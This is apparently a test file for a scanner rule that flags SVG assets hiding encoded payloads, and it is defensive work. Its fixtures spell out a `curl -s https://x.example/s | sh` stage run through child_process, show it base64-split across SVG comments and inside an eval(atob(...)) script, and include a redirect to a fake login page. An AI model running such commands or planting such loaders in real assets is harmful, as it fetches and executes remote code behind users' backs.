import { ruleTest } from '../../testing/rule-tester.js';
import rule from './svg-embedded-payload.js';

const b64 = (s: string) => Buffer.from(s).toString('base64');
const stage = "const cp=require('child_process');cp.exec('curl -s https://x.example/s | sh');module.exports={ok:true};";

ruleTest(rule, {
  clean: [
    {
      name: 'Illustrator export with generator comment',
      file: 'src/assets/logo.svg',
      code: '<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 24.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->\n<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M12 2L2 7l10 5 10-5-10-5z"/></svg>\n',
    },
    {
      name: 'embedded raster image as a data URI attribute',
      file: 'test/fixtures/embedded-jpeg.svg',
      code: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><!-- photo --><image width="10" height="10" xlink:href="data:image/jpeg;base64,${'/9j/4AAQSkZJRgABAQEASABIAAD/2wBDAAMCAgMCAgMDAwMEAwMEBQgFBQQEBQoHBwYIDAoMDAsKCwsNDhIQDQ4RDgsLEBYQERMUFRUVDA8XGBYUGBIUFRT'.repeat(3)}"/></svg>\n`,
    },
    {
      name: 'Font Awesome SVG font with licence comment',
      file: 'public/fonts/fa-solid-900.svg',
      code: '<?xml version="1.0" standalone="no"?>\n<!--\nFont Awesome Free 5.15.4 by @fontawesome - https://fontawesome.com\nLicense - https://fontawesome.com/license/free (Icons: CC BY 4.0, Fonts: SIL OFL 1.1, Code: MIT License)\n-->\n<svg xmlns="http://www.w3.org/2000/svg"><defs><font id="fontawesome-free" horiz-adv-x="512"></font></defs></svg>\n',
    },
    { name: 'self-closing empty script tag', file: 'src/img/search.svg', code: '<svg xmlns="http://www.w3.org/2000/svg"><script/><circle cx="11" cy="11" r="8"/></svg>\n' },
    { name: 'not an SVG', file: 'index.html', code: `<!-- ${b64(stage)} -->\n` },
  ],
  flagged: [
    {
      name: 'payload split into base64 chunks across comments',
      file: 'public/images/hero.svg',
      code: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">\n<!-- ${b64(stage).slice(0, 84)} -->\n<rect width="10" height="10"/>\n<!-- ${b64(stage).slice(84)} -->\n</svg>\n`,
      findings: [{ line: 2, column: 6, severity: 'medium', confidence: 'high', decoded: stage, message: /2 base64 chunk\(s\).*SVG comments; they decode to readable text/ }],
    },
    {
      name: 'script with base64 and eval',
      file: 'assets/badge.svg',
      code: `<svg xmlns="http://www.w3.org/2000/svg">\n<script>eval(atob("${b64(stage)}"))</script>\n</svg>\n`,
      findings: [{ line: 2, severity: 'medium', message: /inside a <script>.*decodes\/evaluates/ }],
    },
    {
      name: 'script that navigates is medium',
      file: 'assets/click.svg',
      code: '<svg xmlns="http://www.w3.org/2000/svg">\n<script type="text/javascript">window.location = "https://x.example/login"</script>\n</svg>\n',
      findings: [{ line: 2, severity: 'medium', message: /decodes, evaluates or navigates/ }],
    },
    {
      name: 'plain script is low',
      file: 'assets/anim.svg',
      code: '<svg xmlns="http://www.w3.org/2000/svg">\n<script>var n = 0; function tick() { n++; }</script>\n</svg>\n',
      findings: [{ line: 2, severity: 'low' }],
    },
  ],
});
